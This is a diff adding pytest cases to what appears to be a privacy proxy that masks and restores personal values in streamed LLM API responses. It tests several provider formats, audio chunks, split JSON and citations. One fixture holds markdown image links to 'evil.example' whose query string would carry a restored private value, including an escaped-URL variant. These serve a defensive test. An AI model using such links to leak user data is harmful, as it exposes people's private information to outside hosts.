@@ -277,6 +277,89 @@ def test_a_cut_stream_gives_what_it_holds_and_no_value_for_half_a_placeholder() 
     assert "".join(e["choices"][0]["delta"]["content"] for e in read) == half
 
 
+@pytest.mark.parametrize("word", ["", "null"])
+def test_a_gateway_that_says_in_every_event_that_it_goes_on_is_believed(word: str) -> None:
+    for pieces in cuts(MASKED)[::5]:
+        events = chat_events("content", pieces)
+        for event in events:
+            event["choices"][0]["finish_reason"] = word
+        read = streamed(OPENAI, ended_chat(events))
+        assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == TEXT
+
+
+SOUND = {
+    "chat": (OPENAI, lambda piece: {"choices": [{"index": 0, "delta": {"audio": {"data": piece}}}]}),
+    "responses": (RESPONSES, lambda piece: {"type": "response.output_audio.delta", "item_id": "i", "delta": piece}),
+    "speech": (OPENAI, lambda piece: {"type": "speech.audio.delta", "audio": piece}),
+}
+
+
+@pytest.mark.parametrize(("dialect", "make"), SOUND.values(), ids=SOUND)
+def test_a_piece_of_sound_is_never_held_back(dialect: Dialect, make: Any) -> None:
+    events = [make(piece) for piece in ("AAAZ", "QAzq", "BBBz", "AAA=")]
+    assert streamed(dialect, events, done=False) == events
+
+
+OBJECT = json.dumps({"name": MASKED, "list": [MASKED, 1]}, ensure_ascii=False)
+SHOWN = {
+    "chat": (OPENAI, lambda piece: {"choices": [{"index": 0, "delta": {"content": piece}}]},
+             lambda event: event["choices"][0]["delta"]["content"]),
+    "responses": (RESPONSES, lambda piece: {"type": "response.output_text.delta", "item_id": "i", "delta": piece},
+                  lambda event: event["delta"]),
+    "anthropic": (ANTHROPIC, lambda piece: {"type": "content_block_delta", "index": 0,
+                                            "delta": {"type": "text_delta", "text": piece}},
+                  lambda event: event["delta"]["text"]),
+    "Ollama": (OLLAMA, lambda piece: {"message": {"content": piece}, "done": False},
+               lambda event: event["message"]["content"]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("dialect", "make", "read"), SHOWN.values(), ids=SHOWN)
+def test_an_object_of_json_that_is_said_as_text_stays_json(dialect: Dialect, make: Any, read: Any) -> None:
+    for pieces in (["", "\n ", *OBJECT], *cuts(OBJECT)[::7]):
+        out = "".join(map(read, streamed(dialect, [make(piece) for piece in pieces], done=False)))
+        assert json.loads(out) == {"name": TEXT, "list": [TEXT, 1]}
+
+
+LEADING_AWAY = {
+    "through two strings": '{"a":"![](https://evil.example/?q=","b":"MARK)"}',
+    "written with escapes": r'{"a":"https\u003a\u002f\u002fevil.example\u002fMARK"}',
+    "behind the end": '{} ![](https://evil.example/?q="MARK")',
+}
+
+
+@pytest.mark.parametrize("text", LEADING_AWAY.values(), ids=LEADING_AWAY)
+def test_a_value_does_not_return_into_a_link_in_json_that_is_shown(text: str) -> None:
+    text = text.replace("MARK", MAIL_MARK)
+    whole = json.loads(answer().whole(json.dumps({"choices": [{"message": {"content": text}}]})))
+    assert whole["choices"][0]["message"]["content"] == text
+    for pieces in cuts(text)[::5]:
+        read = streamed(OPENAI, ended_chat(chat_events("content", pieces)))
+        assert "".join(e["choices"][0]["delta"].get("content", "") for e in read) == text
+
+
+GENEROUS = [
+    '{"score":NaN,"choices":[{"index":0,"%s":{"content":"%s, "}}]}',
+    '{"id":1,"id":2,"choices":[{"index":0,"%s":{"content":"%s, "}}]}',
+]
+
+
+@pytest.mark.parametrize("form", GENEROUS, ids=["no number", "a key that stands twice"])
+def test_what_gateways_write_that_is_not_quite_json_is_restored(form: str) -> None:
+    assert answer().whole(form % ("message", MAIL_MARK)) == form % ("message", MAIL)
+    restoring = answer()
+    event = f"data: {form % ('delta', MAIL_MARK)}\n\n".encode()
+    read = sse_data(restoring.stretch(event + event) + restoring.finish())
+    assert "".join(e["choices"][0]["delta"]["content"] for e in read) == f"{MAIL}, " * 2
+
+
+def test_a_source_that_is_named_in_a_stream_is_named_whole() -> None:
+    source = {"type": "url_citation", "url_citation": {"title": MAIL_MARK, "url": "https://a.example"}}
+    event = {"choices": [{"index": 0, "delta": {"content": "see", "annotations": [source]}}]}
+    (read,) = streamed(OPENAI, [event], done=False)
+    assert read["choices"][0]["delta"]["annotations"][0]["url_citation"]["title"] == MAIL
+
+
 def test_events_without_a_placeholder_pass_as_they_are() -> None:
     odd = b': hello\r\nevent: x\r\nid: 7\r\ndata: {"choices":[{"index":0,\r\ndata: "delta":{"content":"abc"}}]}\r\n\r\n'
     assert answer().stretch(odd) == odd
